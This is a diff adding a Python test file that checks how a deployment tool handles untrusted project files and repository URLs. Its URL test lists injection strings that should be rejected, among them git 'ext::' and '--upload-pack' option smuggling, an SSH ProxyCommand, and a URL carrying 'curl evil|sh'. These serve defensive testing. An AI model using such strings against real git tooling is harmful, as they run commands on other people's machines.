@@ -1,0 +1,105 @@
+"""Files of strangers are read with limits: no size, nesting or shape of them ends the command."""
+
+from __future__ import annotations
+
+import ast
+import os
+from pathlib import Path
+
+import pytest
+
+from core import foreign
+from core.errors import ConfigError, TreeError
+from deploy import curate, nodes
+
+DEEP = {
+    "signs": "x=" + "-" * 50_000 + "1",
+    "attributes": "a" + ".b" * 100_000,
+    "brackets": "(" * 5_000 + ")" * 5_000,
+    "nothing": "x = \0",
+    "a long name": f"import {'a' * 5_000}",
+}
+
+
+@pytest.mark.parametrize("name", DEEP)
+def test_python_that_the_parser_cannot_take_is_as_if_empty(tmp_path: Path, name: str) -> None:
+    (tmp_path / "__init__.py").write_text(DEEP[name])
+    foreign.python(tmp_path / "__init__.py")
+    assert curate.imported(tmp_path) == {"__init__.py"}
+
+
+@pytest.mark.filterwarnings("error")
+def test_its_warnings_are_its_authors_affair(tmp_path: Path) -> None:
+    (tmp_path / "x.py").write_text("x = '\\d' is 1\n")
+    assert isinstance(foreign.python(tmp_path / "x.py").body[0], ast.Assign)
+
+
+@pytest.mark.parametrize(
+    ("text", "wanted"),
+    [
+        ('[project]\ndependencies = ["one", "two>1"]', ["one", "two>1"]),
+        ("project = 1", []),
+        ("[project]\ndependencies = 3", []),
+        ("a = " + "[" * 100_000, []),
+        ("[project\n", []),
+        ("[project]\nname = '\udcef'", []),
+    ],
+)
+def test_a_pyproject_of_any_shape(tmp_path: Path, text: str, wanted: list[str]) -> None:
+    (tmp_path / "pyproject.toml").write_bytes(text.encode(errors="surrogateescape"))
+    assert nodes.requirements(tmp_path) == wanted
+
+
+def test_what_is_too_large_or_no_file_is_refused_by_name(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "requirements.txt")
+    with pytest.raises(TreeError, match=r"requirements\.txt is no plain file"):
+        nodes.requirements(tmp_path)
+    (tmp_path / "requirements.txt").unlink()
+    for name in ("requirements.txt", "__init__.py"):
+        (tmp_path / name).touch()
+        os.truncate(tmp_path / name, foreign.LIMIT + 1)
+    with pytest.raises(TreeError, match=r"requirements\.txt is larger than 8 MB"):
+        nodes.requirements(tmp_path)
+    assert curate.imported(tmp_path) == {"__init__.py"}
+
+
+@pytest.mark.parametrize(
+    ("url", "good"),
+    [
+        ("https://github.com/x/y.git", True),
+        ("https://host:8443/~x/y", True),
+        ("ssh://git@host:22/x", True),
+        ("git@github.com:x/y", True),
+        ("file:///srv/git/x", True),
+        ("http://host/x", False),
+        ("git://host/x", False),
+        ("ext::sh -c id", False),
+        ("--upload-pack=touch /tmp/x", False),
+        ("ssh://-oProxyCommand=x", False),
+        ("https://user:token@host/x", False),
+        ("https://github.com/x/y;curl${IFS}evil|sh;#", False),
+        ("https://host/x\n", False),
+        ("", False),
+    ],
+)
+def test_addresses_of_repositories(url: str, good: bool) -> None:
+    if good:
+        nodes.check_address("here", url)
+    else:
+        with pytest.raises(ConfigError, match=r"here: .* is no address of a repository"):
+            nodes.check_address("here", url)
+
+
+@pytest.mark.parametrize(
+    ("address", "parts"),
+    [
+        ("https://github.com/x/y", ("https://github.com/x/y", "")),
+        ("https://github.com/x/y@v1", ("https://github.com/x/y", "v1")),
+        ("https://me@github.com/x/y@feature/z", ("https://me@github.com/x/y", "feature/z")),
+        ("git@github.com:x/y", ("git@github.com:x/y", "")),
+        ("git@github.com:x/y@v1", ("git@github.com:x/y", "v1")),
+        ("", ("", "")),
+    ],
+)
+def test_an_address_with_a_revision(address: str, parts: tuple[str, str]) -> None:
+    assert curate._revision(address) == parts
